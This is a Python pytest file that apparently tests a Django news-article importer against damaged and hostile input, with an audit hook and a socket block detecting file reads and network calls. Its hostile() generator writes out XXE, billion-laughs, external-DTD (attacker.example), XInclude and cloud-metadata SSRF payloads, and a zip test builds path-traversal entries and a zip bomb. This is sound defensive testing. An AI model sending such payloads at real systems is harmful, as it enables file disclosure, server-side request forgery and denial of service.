"""Every reader against every attack, through the front door: what comes in is an article or is refused by name.

Never a reader's mistake, a question to the network, a file read outside of what was handed in, or a half-written article.
"""

from __future__ import annotations

import io
import json
import os
import socket
import sys
import zipfile
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import TYPE_CHECKING, Any, NoReturn

import pytest
from django.core.management import call_command

from articles.importing.item import LegacyItem, NotAnArticle, Refusal
from articles.importing.readers import READERS, reader_of
from articles.importing.reading import articles_in
from articles.importing.sources.handed_in import HandedIn
from articles.importing.sources.source_file import SourceFile
from articles.models import Article, ImportItem, ImportRun
from tests.builders import make_publication, make_section
from tests.importing import test_feed, test_html_page, test_json_lines, test_page_text, test_wire, test_wordpress
from tests.importing.samples import SAMPLES, expected_in
from tests.importing.workbooks import xlsx

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

ROWS = "번호,제목,등록일,본문\n12,배 이름,2014-09-09 09:09,배가 온다.\n13,등대,2014-09-10 10:10,등대가 켜졌다.\n"
#: A whole file of each format, and what its name ends in; of a table both as text and as a workbook.
WHOLE: Mapping[str, tuple[str, bytes, str]] = {
    "ninjs": ("ninjs", json.dumps([test_wire.item(), test_wire.item(uri="urn:x:2")]).encode(), ".json"),
    "json-lines": ("json-lines", f"{json.dumps(test_json_lines.FULL)}\n".encode() * 2, ".jsonl"),
    "newsml-g2": ("newsml-g2", test_wire.news_item(test_wire.NITF).encode(), ".xml"),
    "nitf": ("nitf", test_wire.NITF.encode(), ".xml"),
    "wxr": (
        "wxr",
        (
            test_wordpress.HEAD.format("1.2") + test_wordpress.item() + test_wordpress.PICTURE + test_wordpress.TAIL
        ).encode(),
        ".xml",
    ),
    "feed": ("feed", (Path(test_feed.__file__).parent / "feeds" / "rss.xml").read_bytes(), ".xml"),
    "html": ("html", test_html_page.EVERY["old_site.html"], ".html"),
    "csv": ("csv", ROWS.encode(), ".csv"),
    "workbook": ("csv", xlsx({"2014": [line.split(",") for line in ROWS.splitlines()]}), ".xlsx"),
    "page-text": ("page-text", (test_page_text.DUMPS / "same_shape_as_the_seed.txt").read_bytes(), ".txt"),
}
SECRET = "what nobody handed in"

#: Whether files may be opened just now, and those that were; a hook cannot be taken away again.
_watched: list[str] | None = None


def _note(event: str, arguments: tuple[Any, ...]) -> None:
    if _watched is not None and event == "open" and isinstance(arguments[0], str | bytes):
        _watched.append(os.fsdecode(arguments[0]))


sys.addaudithook(_note)


@contextmanager
def nothing_outside(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Within, no socket can be made, and no file is opened for reading outside of `folder` and of the program itself."""
    global _watched  # noqa: PLW0603 - an audit hook has nowhere else to look

    def no_network(*_args: Any, **_options: Any) -> NoReturn:
        raise AssertionError("the network was asked")

    monkeypatch.setattr(socket, "socket", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    _watched = []
    try:
        yield
        opened = list(_watched)
    finally:
        _watched = None
    programs = tuple({*map(str, sys.path), sys.prefix, sys.base_prefix, "/usr/share/zoneinfo", "/usr/lib"} - {""})
    assert [path for path in opened if not path.startswith((str(folder), *programs))] == []


def read(path: Path) -> list[LegacyItem | Refusal]:
    with HandedIn([str(path)]) as handed_in:
        return list(articles_in(handed_in))


def assert_in_or_refused(found: list[LegacyItem | Refusal]) -> None:
    for each in found:
        if isinstance(each, Refusal):
            assert each.name
            assert each.reason
            assert "reader failed" not in each.reason
        else:
            assert isinstance(each, LegacyItem)
            assert each.headline
            assert each.body_html


def damaged(whole: bytes) -> Iterator[bytes]:
    """Cut off, with a bit flipped, with zeros, with a piece twice, in other encodings, at a dozen places."""
    step = max(1, len(whole) // 12)
    for at in range(0, len(whole), step):
        yield whole[:at]
        yield whole[at:]
        yield whole[:at] + bytes([whole[at] ^ 0x20]) + whole[at + 1 :]
        yield whole[:at] + bytes([whole[at] ^ 0x80]) + whole[at + 1 :]
        yield whole[:at] + b"\0" + whole[at:]
        yield whole[:at] + whole[at : at + step] * 2 + whole[at + step :]
    text = whole.decode("utf-8", "replace")
    for encoding in ("cp949", "utf-16", "utf-16-be"):
        yield text.encode(encoding, "replace")
    yield b"\xef\xbb\xbf" + whole
    yield whole.replace(b"\n", b"\r\n")


def hostile(whole: bytes, secret: Path) -> Iterator[bytes]:
    """What somebody writes who wants to read this machine's files, or to fill its memory."""
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{secret}">]>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    laughing = f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>'
    outside = '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" parse="text"/>'
    before, after = whole[: len(whole) // 2], whole[len(whole) // 2 :]
    for declared, used in ((entity, "&e;"), (laughing, "&l11;"), (outside, "")):
        yield declared.encode() + whole
        yield declared.encode() + before + used.encode() + after
        yield b'<?xml version="1.0"?>' + declared.encode() + whole.replace(b">", f">{used}".encode(), 3)
    yield before + include.encode() + after
    yield before + f'<img src="file://{secret}"><iframe src="http://169.254.169.254/"></iframe>'.encode() + after
    yield whole + b"<a>" * 20_000
    yield whole + b"[" * 20_000
    yield whole + b'{"a":' * 20_000
    yield b'"' + whole


def test_every_reader_is_attacked() -> None:
    assert {name for name, _data, _ending in WHOLE.values()} == set(READERS)
    for name, data, ending in WHOLE.values():
        assert reader_of(SourceFile.of_bytes(data, f"x{ending}")) is READERS[name]


def test_whatever_is_read_outside_or_asked_of_the_network_would_be_seen(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "secret.txt").write_text(SECRET, encoding="utf-8")
    (tmp_path / "dump").mkdir()
    with pytest.raises(AssertionError, match=r"secret\.txt"), nothing_outside(tmp_path / "dump", monkeypatch):
        (tmp_path / "secret.txt").read_bytes()
    with pytest.raises(AssertionError, match="the network"), nothing_outside(tmp_path / "dump", monkeypatch):
        socket.create_connection(("attacker.example", 80))


@pytest.mark.parametrize("name", WHOLE)
def test_what_is_damaged_or_hostile_is_an_article_or_refused_and_reads_nothing_else(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    reader, whole, ending = WHOLE[name]
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    folder = tmp_path / "dump"
    folder.mkdir()
    (folder / f"whole{ending}").write_bytes(whole)
    assert [each for each in read(folder) if isinstance(each, LegacyItem)]
    for number, data in enumerate((*damaged(whole), *hostile(whole, secret))):
        (folder / f"{number:03}{ending}").write_bytes(data)
    with nothing_outside(folder, monkeypatch):
        found = read(folder)
    assert_in_or_refused(found)
    assert all(
        SECRET not in f"{each.headline}{each.body_html}{each.notes}" for each in found if isinstance(each, LegacyItem)
    )
    # Asked by name it gets what would never have been given to it.
    for path in sorted(folder.iterdir()):
        file = SourceFile.of_bytes(path.read_bytes(), path.name)
        with suppress(NotAnArticle):
            assert_in_or_refused(
                [each for each in READERS[reader].read(file) if isinstance(each, LegacyItem | Refusal)]
            )


@pytest.mark.parametrize("name", WHOLE)
def test_a_zip_of_any_format_leads_nowhere_and_fills_no_memory(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _reader, whole, ending = WHOLE[name]
    folder = tmp_path / "dump"
    folder.mkdir()
    with zipfile.ZipFile(folder / "old.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"whole{ending}", whole)
        archive.writestr(f"../../etc/out{ending}", whole)
        archive.writestr(f"/etc/absolute{ending}", whole)
        with archive.open(f"bomb{ending}", "w", force_zip64=True) as bomb:
            bomb.write(whole)
            for _megabyte in range(60):
                bomb.write(bytes(1_000_000))
    said = (folder / "old.zip").read_bytes()
    for number, data in enumerate(
        (said[: len(said) // 2], said[:-30], said[30:], said.replace(b"PK\x01\x02", b"PK\x01\x03"))
    ):
        (folder / f"broken{number}.zip").write_bytes(data)
    with nothing_outside(folder, monkeypatch):
        found = read(folder)
    assert_in_or_refused(found)
    reasons = {each.name.rsplit("/", 1)[-1]: each.reason for each in found if isinstance(each, Refusal)}
    assert reasons[f"out{ending}"] == reasons[f"absolute{ending}"] == "its name leads out of the zip"
    assert reasons[f"bomb{ending}"] == "it becomes far too large when it is unpacked"
    assert any(isinstance(each, LegacyItem) and each.name.endswith(f"whole{ending}") for each in found)
    assert not list(tmp_path.glob("**/out*"))


@pytest.mark.django_db
def test_no_article_of_damaged_files_is_half_written(tmp_path: Path) -> None:
    make_section(make_publication(), "islands")
    for name, (_reader, whole, ending) in WHOLE.items():
        for number, data in enumerate([whole, *list(damaged(whole))[::9], *hostile(whole, tmp_path / "secret.txt")]):
            (tmp_path / f"{name}{number:02}{ending}").write_bytes(data)
    out = io.StringIO()
    with pytest.raises(SystemExit):
        call_command("import_articles", str(tmp_path), stdout=out, stderr=io.StringIO())
    assert "reader failed" not in out.getvalue()
    counts = ImportRun.objects.get().counts
    assert counts["in"] == sum(number for outcome, number in counts.items() if outcome != "in")
    brought = ImportItem.objects.filter(outcome__in=[ImportItem.Outcome.CREATED, ImportItem.Outcome.QUEUED])
    assert brought.count() == counts["created"] + counts.get("queued", 0)
    # What is damaged and has the number of something else waits beside the article that has it.
    assert {item.article_id for item in brought} == set(Article.objects.values_list("pk", flat=True))
    assert Article.objects.count() > len(WHOLE)
    for article in Article.objects.prefetch_related("revisions"):
        [*revisions] = article.revisions.all()
        assert revisions
        assert article.headline
        assert article.section_id


# The samples and seeds -----------------------------------------------------------------------------------------

#: What is no article, by its path below `../shared`, and why it is refused.
REFUSED = {
    "samples/README.md": "it is in no format that can be imported",
    "samples/schemas/ninjs-3.1.schema.json": "it is in no format that can be imported",
    "samples/schemas/siteindex.xsd": "it is in no format that can be imported",
    "samples/schemas/sitemap.xsd": "it is in no format that can be imported",
}
#: Read in `test_page_text`, against what the journal printed.
SEEDS = {"seeds/000_8631131a1bd5f464.txt"}


def test_every_file_that_others_made_has_its_result_or_is_refused_with_a_reason() -> None:
    shared = SAMPLES.parent
    if not shared.is_dir():
        pytest.skip("../shared is not beside this repository")
    files = {
        path.relative_to(shared).as_posix(): path
        for folder in ("samples", "seeds")
        for path in sorted((shared / folder).rglob("*"))
        if path.is_file()
    }
    with_result = {
        f"samples/{folder}/{each.stem}" for folder in ("ninjs", "newsml-g2", "wxr") for each in expected_in(folder)
    }
    for name, path in files.items():
        found = read(path)
        assert_in_or_refused(found)
        if name in REFUSED:
            assert [each.reason for each in found if isinstance(each, Refusal)] == [REFUSED[name]], name
            assert len(found) == 1
        else:
            assert name in SEEDS or name.rpartition(".")[0] in with_result, f"{name} has no result written by hand"
            assert found, name
